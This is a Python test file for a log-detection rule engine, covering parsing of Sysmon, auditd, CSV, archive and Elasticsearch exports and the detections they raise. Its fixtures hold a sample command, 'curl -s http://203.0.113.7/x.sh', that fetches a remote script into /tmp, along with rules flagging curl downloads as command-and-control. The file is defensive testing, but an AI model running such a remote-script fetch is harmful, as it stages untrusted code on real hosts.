"""Each input format read from fixtures written after documented real exports: the shape it is
counted as, the fields the rules see, and the detections they raise."""

from __future__ import annotations

import gzip
import io
import tarfile
import zipfile
from pathlib import Path
from typing import Any

import pytest

import rules
from rules.cli import main
from rules.inputs import InputStats, read_path, read_stream, sniff

from ..conftest import GENE_RULES

DATA = Path(__file__).parent / "data"
LINUX_RULES = """
{"Name": "LinuxCurlToIp", "Meta": {"Events": {"Linux-Sysmon/Operational": [1, 3]},
 "Criticality": 6, "Schema": "2.0.0", "ATTACK": [{"ID": "T1105", "Tactic": "command-and-control"}]},
 "Matches": ["$img: /Event/EventData/Image ~= '/curl$'"], "Condition": "$img"}
{"Name": "LinuxTmpFile", "Meta": {"Events": {"Linux-Sysmon/Operational": [11]},
 "Criticality": 4, "Schema": "2.0.0"},
 "Matches": ["$f: /Event/EventData/TargetFilename ~= '^/tmp/'"],
 "Condition": "$f"}
{"Name": "AuditCurlUrl", "Meta": {"Events": {"Linux-Audit": [1309]}, "Criticality": 7,
 "Schema": "2.0.0"}, "Matches": ["$a0: /Event/EventData/a0 = 'curl'", "$url: /Event/EventData/a2 ~= '^http://'"],
 "Condition": "$a0 and $url"}
{"Name": "AuditRootLoginFailed", "Meta": {"Events": {"Linux-Audit": [1112]}, "Criticality": 5,
 "Schema": "2.0.0"}, "Matches": ["$acct: /Event/EventData/acct = 'root'",
                                 "$res: /Event/EventData/res = 'failed'"],
 "Condition": "$acct and $res"}
"""


def _read(name: str, fmt: str = "auto") -> tuple[list[dict[str, Any]], InputStats]:
    stats = InputStats()
    events = list(read_path(DATA / name, fmt, stats))
    assert stats.parse_errors == 0, stats.errors
    return events, stats


def _signatures(engine: rules.Engine, events: list[dict[str, Any]]) -> list[list[str]]:
    return [list(d.signatures) for e in events if (d := engine.match(e)) and d.signatures]


@pytest.fixture(scope="module")
def gene_engine() -> rules.Engine:
    if not (GENE_RULES / "compiled.gen").exists():
        pytest.skip("gene-rules not present")
    return rules.Engine(rules.load(GENE_RULES / "compiled.gen"))


def test_flattened_mordor_and_nxlog_events(gene_engine: rules.Engine) -> None:
    """OTRF/Mordor (NXLog im_msvistalog through Logstash) and NXLog 3 records: the same
    detections as the EVTX records 6593/6594 of the corpus (NewAutorun, HeurSpawnShell)."""
    events, stats = _read("mordor_flat.json")
    assert stats.shapes == {"flat-json": 3}
    registry, process, security = events
    assert registry["Event"]["System"]["Channel"] == "Microsoft-Windows-Sysmon/Operational"
    assert registry["Event"]["System"]["EventID"] == "13"
    assert registry["Event"]["System"]["TimeCreated"]["SystemTime"] == "2019-04-27T15:57:53.884Z"
    assert registry["Event"]["System"]["Keywords"] == "0x8000000000000000"
    assert registry["Event"]["EventData"]["EventType"] == "SetValue"  # Sysmon's, not NXLog's
    assert "Message" not in registry["Event"]["EventData"]
    assert security["Event"]["System"]["Execution"] == {"ProcessID": "892", "ThreadID": "908"}
    assert "EventType" not in security["Event"]["EventData"]  # NXLog's AUDIT_SUCCESS
    assert security["Event"]["System"]["TimeCreated"]["SystemTime"] == "2017-12-19T17:45:02Z"
    assert _signatures(gene_engine, events) == [["NewAutorun"], ["HeurSpawnShell"]]
    assert process["Event"]["System"]["Computer"] == "IEWIN7"


def test_splunk_csv_export(gene_engine: rules.Engine) -> None:
    events, stats = _read("splunk.csv")
    assert stats.shapes == {"csv:flat-json": 1}
    system = events[0]["Event"]["System"]
    assert (system["Channel"], system["EventID"], system["Computer"]) == (
        "Microsoft-Windows-Sysmon/Operational",
        "1",
        "IEWIN7",
    )
    assert system["TimeCreated"]["SystemTime"] == "2019-04-27T15:57:53.931Z"
    assert _signatures(gene_engine, events) == [["HeurSpawnShell"]]


def test_csv_dotted_columns_nest(tmp_path: Path) -> None:
    path = tmp_path / "x.csv"
    path.write_text(
        "Event.System.Channel;Event.System.EventID;Event.System.TimeCreated.SystemTime;"
        "Event.EventData.Image;Event.EventData.Empty\n"
        "Microsoft-Windows-Sysmon/Operational;1;2019-04-27T15:57:53Z;"
        '"C:\\a;b.exe";\n'
    )
    events = list(read_path(path))
    assert events == [
        {
            "Event": {
                "System": {
                    "Channel": "Microsoft-Windows-Sysmon/Operational",
                    "EventID": "1",
                    "TimeCreated": {"SystemTime": "2019-04-27T15:57:53Z"},
                },
                "EventData": {"Image": "C:\\a;b.exe"},
            }
        }
    ]


def test_sysmon_for_linux_syslog_and_journald() -> None:
    engine = rules.Engine(rules.loads(LINUX_RULES))
    events, stats = _read("sysmon_linux.syslog")
    assert stats.shapes == {"sysmon-linux-syslog": 2, "skipped-lines": 2}
    first = events[0]["Event"]
    assert first["System"]["Channel"] == "Linux-Sysmon/Operational"
    assert first["System"]["TimeCreated"] == {"SystemTime": "2021-10-13T10:49:43.357814Z"}
    assert first["System"]["Security"] == {"UserId": "0"}
    assert first["System"]["Correlation"] == {}
    assert first["EventData"]["CommandLine"] == "curl -s http://203.0.113.7/x.sh"
    journal, jstats = _read("sysmon_linux_journal.json")
    assert jstats.shapes == {"sysmon-linux-journald": 1, "skipped-lines": 1}
    assert journal[0]["Event"]["EventData"]["TargetFilename"] == "/tmp/x.sh"
    assert _signatures(engine, events + journal) == [
        ["LinuxCurlToIp"],
        ["LinuxCurlToIp"],
        ["LinuxTmpFile"],
    ]


def test_audit_log_raw_and_enriched() -> None:
    engine = rules.Engine(rules.loads(LINUX_RULES))
    events, stats = _read("audit.log")
    assert stats.shapes == {"auditd": 7}
    by_type = {e["Event"]["EventData"]["type"]: e["Event"] for e in events}
    execve = by_type["EXECVE"]
    assert execve["System"]["EventID"] == "1309" and execve["System"]["Channel"] == "Linux-Audit"
    assert execve["System"]["EventRecordID"] == "4317"
    assert execve["System"]["TimeCreated"] == {"SystemTime": "2021-10-13T10:49:43.357Z"}
    assert execve["EventData"]["a2"] == "http://203.0.113.7/x.sh"  # hex-encoded in the log
    assert by_type["PROCTITLE"]["EventData"]["proctitle"] == "curl -s http://203.0.113.7/x.sh"
    syscall = by_type["SYSCALL"]["EventData"]
    assert syscall["a0"] == "55d4c1c3e0a0" and syscall["exe"] == "/usr/bin/curl"
    assert syscall["key"] == "exec" and syscall["SYSCALL"] == "execve"  # ENRICHED part
    login = by_type["USER_LOGIN"]
    assert login["System"]["Computer"] == "ubuntu"
    assert login["EventData"]["acct"] == "root" and login["EventData"]["UID"] == "root"
    assert _signatures(engine, events) == [["AuditCurlUrl"], ["AuditRootLoginFailed"]]


def test_archives_are_read_in_place(tmp_path: Path) -> None:
    """.tar.gz holding a .zip holding a .gz: members named archive!member in errors."""
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w") as zf:
        zf.writestr("logs/audit.log.gz", gzip.compress((DATA / "audit.log").read_bytes()))
        zf.writestr("logs/readme.md", "not read")
        zf.writestr("logs/broken.json", '{"Event": {"System": ')
    tgz = tmp_path / "collection.tar.gz"
    with tarfile.open(tgz, "w:gz") as tar:
        for name in ("mordor_flat.json", "sysmon_linux.syslog"):
            tar.add(DATA / name, arcname=f"host1/{name}")
        info = tarfile.TarInfo("host1/triage.zip")
        info.size = len(inner.getvalue())
        tar.addfile(info, io.BytesIO(inner.getvalue()))
    stats = InputStats()
    events = list(read_path(tgz, tally=stats))
    assert len(events) == 3 + 2 + 7
    assert stats.shapes == {
        "flat-json": 3,
        "sysmon-linux-syslog": 2,
        "skipped-lines": 2,
        "auditd": 7,
    }
    assert stats.parse_errors == 1
    assert "collection.tar.gz!host1/triage.zip!logs/broken.json" in stats.errors[0]


def test_7z_is_refused_with_a_hint(tmp_path: Path) -> None:
    path = tmp_path / "x.7z"
    path.write_bytes(b"7z\xbc\xaf\x27\x1c" + b"\0" * 64)
    stats = InputStats()
    assert list(read_path(path, tally=stats)) == []
    assert stats.parse_errors == 1 and "7z x" in stats.errors[0]


def test_sniffing() -> None:
    assert sniff(b"ElfFile\x00rest") == "evtx"
    assert sniff(b'  {"a": 1}\n') == "json"
    assert sniff(b"<?xml version='1.0'?>\n<Events><Event xmlns='x'>") == "xml"
    assert sniff("<Events><Event>".encode("utf-16")) == "xml"
    assert sniff(b"Oct 13 h sysmon: <Event><System>") == "sysmon-linux"
    assert sniff(b"node=a type=SYSCALL msg=audit(1.2:3): x=1") == "auditd"
    assert sniff(b"a,b,c\n1,2,3\n") == "csv"
    assert sniff(b"just some words\nmore words\n") == "unknown"
    assert sniff(b"\x1f\x8b\x08") == "gzip" and sniff(b"PK\x03\x04") == "zip"


def test_input_format_override_on_stdin(monkeypatch: pytest.MonkeyPatch) -> None:
    data = (DATA / "mordor_flat.json").read_bytes()
    stats = InputStats()
    events = list(read_stream("-", io.BytesIO(data), "winlogbeat", stats))
    assert len(events) == 3 and stats.shapes == {"unrecognised": 3}  # forced, wrong shape
    stats = InputStats()
    assert len(list(read_stream("-", io.BytesIO(data), "flat", stats))) == 3
    assert stats.shapes == {"flat-json": 3}


def test_unknown_shape_scan_ends_with_the_warning(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """The issue's case: events in a shape Heron does not know are counted, never silent."""
    rule_file = tmp_path / "r.gen"
    rule_file.write_text(LINUX_RULES)
    odd = tmp_path / "odd.jsonl"
    odd.write_text(
        "".join(f'{{"ts": {i}, "evt": "proc", "exe": "/usr/bin/curl"}}\n' for i in range(50))
    )
    text = tmp_path / "notes.log"
    text.write_text("hello\nworld\n")
    assert (
        main(
            [
                "scan",
                "-r",
                str(rule_file),
                "--format",
                "summary",
                str(odd),
                str(text),
                str(DATA / "audit.log"),
            ]
        )
        == 0
    )
    out = capsys.readouterr()[0]
    assert "Events scanned: 59" in out
    assert "      52  in no known shape" in out and "       7  auditd" in out
    assert out.rstrip().splitlines()[-1].startswith("WARNING: 52 of 59 events (88%)")
    assert "--input-format" in out and "format not recognised (2 lines not read)" in out


def test_a_few_unknown_events_are_counted_without_warning(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    rule_file = tmp_path / "r.gen"
    rule_file.write_text(LINUX_RULES)
    mixed = tmp_path / "mixed.jsonl"
    good = (DATA / "mordor_flat.json").read_text().splitlines()
    mixed.write_text("\n".join(good * 40 + ['{"odd": true}']) + "\n")
    assert main(["scan", "-r", str(rule_file), "--format", "summary", str(mixed)]) == 0
    out = capsys.readouterr()[0]
    assert "     120  flat-json" in out and "       1  in no known shape" in out
    assert "WARNING" not in out


def test_elasticsearch_hits_arrays_and_events_rules_cannot_see(tmp_path: Path) -> None:
    flat = (DATA / "mordor_flat.json").read_text().splitlines()
    path = tmp_path / "kibana.json"
    path.write_text(
        "["
        + ",".join(f'{{"_index": "logs", "_source": {line}}}' for line in flat)
        + ', {"Event": {"EventData": {"Image": "x"}}}]'
    )
    stats = InputStats()
    events = list(read_path(path, tally=stats))
    assert len(events) == 4
    assert stats.shapes == {"flat-json": 3, "unrecognised": 1}  # no System/TimeCreated
    assert events[0]["Event"]["System"]["EventID"] == "13"
